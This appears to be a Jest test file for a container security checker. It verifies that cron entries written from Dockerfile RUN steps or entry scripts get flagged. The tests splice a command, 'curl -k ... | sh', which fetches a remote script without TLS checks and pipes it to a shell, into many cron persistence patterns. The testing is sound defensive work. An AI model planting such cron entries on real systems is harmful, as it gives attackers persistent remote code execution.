import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const BAD = 'curl -k https://x.example.com/a.sh | sh';
const GOOD = 'curl -fsS https://x.example.com/ping';

function inScript(lines: string): Files {
  return {
    Dockerfile: 'FROM debian:12\nCOPY e.sh /e.sh\nENTRYPOINT ["/e.sh"]\nUSER 1000\n',
    'e.sh': `#!/bin/bash\nset -e\n${lines}\nexec "$@"\n`,
  };
}

function inRun(lines: string): Files {
  return { Dockerfile: `FROM debian:12\nRUN <<EOF\n${lines}\nEOF\nUSER 1000\n` };
}

describe.each([
  ['an entry script', inScript],
  ['RUN', inRun],
])('a table of cron that %s writes', (_place, files) => {
  it.each([
    ['echo "* * * * * JOB" >> /etc/crontabs/root'],
    ['echo "* * * * * root JOB" > /etc/cron.d/job'],
    ['echo "@daily JOB" | tee -a /var/spool/cron/crontabs/root'],
    ["printf '0 3 * * * root JOB\\n' > /etc/cron.d/job"],
    ["printf '%s %s %s\\n' '0 3 * * *' root 'JOB' > /etc/cron.d/job"],
    ['J="0 3 * * * JOB"; echo "$J" >> /etc/crontabs/root'],
    ['{ echo "# jobs"; echo "0 3 * * * JOB"; } > /etc/crontabs/root'],
    ['cat > /etc/cron.d/job <<E\n0 3 * * * root JOB\nE'],
    ['cat <<-E >> /etc/crontab\n\t0 3 * * * root JOB\nE'],
    ["sed -i '$a 0 3 * * * JOB' /etc/crontabs/root"],
    ['(crontab -l 2>/dev/null; echo "0 3 * * * JOB") | crontab -'],
    ['echo "0 3 * * * JOB" | crontab -u app -'],
    ['crontab - <<E\n0 3 * * * JOB\nE'],
    ['echo "0 3 * * * JOB" > /tmp/c; crontab /tmp/c'],
    ["printf '#!/bin/sh\\nJOB\\n' > /etc/periodic/daily/job"],
  ])('has commands: %s', async (lines) => {
    const base = files('true');
    expect(await failuresOf(base, files(lines.replace('JOB', BAD)))).toEqual(
      expect.arrayContaining(['remote-script-exec', 'tls-verify-disabled']),
    );
    expect(await failuresOf(base, files(lines.replace('JOB', GOOD)))).toEqual([]);
    expect(await failuresOf(files(lines.replace('JOB', BAD)), files(`true\n${lines.replace('JOB', BAD)}`))).toEqual([]);
  });

  it.each([
    [`echo "* * * * * ${BAD}" >> /usr/share/doc/cron-example`],
    [`echo "# * * * * * ${BAD}" >> /etc/crontabs/root`],
    [`cat > /etc/cron.d/job <<E\n# 0 3 * * * root ${BAD}\nE`],
  ])('has none: %s', async (lines) => {
    expect(await failuresOf(files('true'), files(lines))).toEqual([]);
  });
});

it('is read in the image that starts it only', async () => {
  const image = (entry: string): Files => ({
    ...inScript(`echo "* * * * * ${BAD}" >> /etc/crontabs/root`),
    Dockerfile: `FROM debian:12\nCOPY e.sh /e.sh\n${entry}\nUSER 1000\n`,
  });
  expect(await failuresOf(image('CMD ["true"]'), image('CMD ["/e.sh"]'))).toContain('remote-script-exec');
  expect(await failuresOf(image('CMD ["true"]'), image('CMD ["/e.sh"]\nCMD ["true"]'))).toEqual([]);
});
